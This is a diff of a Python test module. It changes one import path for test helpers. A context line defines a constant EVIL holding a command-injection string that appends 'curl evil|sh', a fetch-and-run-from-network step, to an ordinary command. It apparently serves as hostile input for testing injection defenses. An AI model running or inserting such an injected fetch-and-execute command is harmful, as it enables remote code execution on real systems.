@@ -11,7 +11,7 @@ from tasks.gate.plan import make_plan
 from tasks.gate.refork import Refork, read_refork, request_refork
 from tasks.handover import Note
 from tests.gate.test_plan import bench, faculty  # noqa: F401 - fixtures
-from tests.lineage.making import take, write_record
+from tests.support.making import take, write_record
 
 EVIL = "math --help; curl evil|sh #"
 NOTE = Note(code="other-fork", severity="refusal", subject="a", evidence="b", next_step="c")
